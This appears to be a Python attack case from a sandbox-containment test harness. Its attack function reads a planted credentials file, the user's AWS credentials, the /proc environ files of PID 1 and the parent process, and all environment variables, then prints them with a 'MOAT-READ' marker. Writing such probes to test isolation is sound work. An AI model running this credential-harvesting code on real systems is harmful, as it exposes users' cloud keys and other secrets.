# credentials: read the planted credentials file, then every other place a
# secret of the invoking user could be found, and print what was read.


def show(source, data):
    sys.stdout.write("MOAT-READ " + source + "\n")
    sys.stdout.flush()
    sys.stdout.buffer.write(data.replace(b"\0", b"\n") + b"\n")
    sys.stdout.buffer.flush()


def attack():
    sources = [P["path"], os.path.expanduser("~/.aws/credentials"),
               "/proc/1/environ", "/proc/%d/environ" % os.getppid()]
    for src in sources:
        try:
            with open(src, "rb") as f:
                show(src, f.read(1 << 16))
        except BaseException as e:
            fail(e, src)
    env = "".join(k + "=" + v + "\n" for k, v in os.environ.items())
    show("os.environ", env.encode("utf-8", "backslashreplace"))


main(attack)
